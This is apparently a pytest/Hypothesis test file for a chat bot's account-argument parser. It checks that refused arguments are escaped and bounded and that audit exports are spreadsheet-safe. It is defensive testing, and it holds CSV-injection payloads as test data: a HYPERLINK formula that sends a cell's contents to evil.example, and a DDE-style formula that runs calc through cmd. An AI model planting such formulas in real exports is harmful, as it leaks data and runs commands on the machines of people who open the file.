"""The account argument of every verb is checked for shape and length before anything records
it; a refused one is audited bounded and escaped, and exports never carry a live formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from audit import export
from bot.edge.verbs import MAX_ACCOUNT, VERBS, BadAccountArgument, UsageError, bounded, parse
from commands.accounts import EMAIL
from tests.fixtures.bot import NOBODY, BotHarness

ACCOUNT_VERBS = [v.name for v in VERBS.values() if v.takes_account]
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
typed = st.one_of(
    st.text(max_size=300),
    st.text(alphabet="=+-@\t\r\"'<>|&()/#:.,;`\u202e\u200b 0123456789Aé", max_size=60),
    st.sampled_from([FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-1", "+61412345678", "Café"]),
    st.sampled_from(["=a@b.co", "@x.com", "a@b", "a@-b.com", "x@y.com|calc", "a b@c.com"]),
)


@given(verb=st.sampled_from(ACCOUNT_VERBS), argument=typed)
def test_any_account_argument_is_refused_or_well_formed(verb: str, argument: str) -> None:
    try:
        account = parse(f"{verb} {argument}").account
    except BadAccountArgument as exc:
        assert len(exc.argument) <= 2 + 80 * 10 + 1  # quotes, escapes, ellipsis
        # escaped to ASCII, but for the bot's own ellipsis where it was cut
        assert exc.argument.removesuffix("…").isascii() and exc.argument[0] in "'\""
        return
    except UsageError:
        return
    if account is None:  # left out: only where the verb means every account then
        assert VERBS[verb].account_optional
        return
    assert len(account) <= MAX_ACCOUNT
    assert account[0].isalnum() or account[0] in "+("
    if EMAIL.fullmatch(account):  # an address: ASCII, a letter or digit first, one @
        assert account.isascii() and account[0].isalnum() and account.count("@") == 1
        return
    assert not any(c in account for c in '=@<>|`"\t\r\n:;\u202e\u200b')


@given(verb=st.sampled_from(ACCOUNT_VERBS), email=st.emails())
def test_a_contacts_email_address_is_an_account_argument(verb: str, email: str) -> None:
    assume(EMAIL.fullmatch(email))  # hypothesis also makes quoted and exotic local parts
    assert parse(f"{verb} {email}").account == email


@pytest.mark.parametrize(
    "typed", ["accounts@beanrepubliccoffeeco.com.au", "o'brien+bills@wattle-gum.com.au"]
)
def test_an_email_is_not_refused_by_the_character_rule(typed: str) -> None:
    assert parse(f"account {typed}").account == typed
    assert parse(f"suspend {typed} unpaid since May").rest == "unpaid since May"
    assert parse("account INV-00000123").account == "INV-00000123"


def test_the_bounded_form_is_short_escaped_and_spreadsheet_safe() -> None:
    assert bounded(FORMULA).startswith("'=HYPERLINK(")
    assert bounded("\u202e" * 500).startswith("'\\u202e") and bounded("x" * 500).endswith("…")


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_refused_formula_is_audited_bounded_and_exports_safely(bot: BotHarness, fmt: str) -> None:
    answer = bot.command(NOBODY, f"audit {FORMULA}")
    assert answer.status_code == 200
    assert "An account is its number" in answer.text
    out = io.StringIO()
    with bot.ledger.read_session() as session:
        assert export(session=session, fmt=fmt, out=out) == 1  # type: ignore[arg-type]
    if fmt == "jsonl":
        [event] = [json.loads(line) for line in out.getvalue().splitlines()]
        assert event["account"] is None and event["outcome"] == "refused"
        assert event["details"]["argument"] == bounded(FORMULA)
        return
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_a_forged_verb_button_value_is_refused_before_it_is_recorded(bot: BotHarness) -> None:
    from tests.reliability.test_hostile_input import click

    # Too long, an overlong origin, and digits that are not ASCII (Arabic-Indic).
    for value in ("9" * 1000, "1001|" + "x" * 500, "\u0661\u0660\u0660\u0661"):
        assert click(bot.send, bot.slack, NOBODY, "verb:account", value).status_code == 200
        bot.wait_idle()
    with bot.ledger.read_session() as session:
        assert export(session=session, fmt="jsonl", out=io.StringIO()) == 0
    said = [r.body.get("text", "") for r in bot.slack.responses()]
    assert said == ["That button is not valid any more."] * 3, said
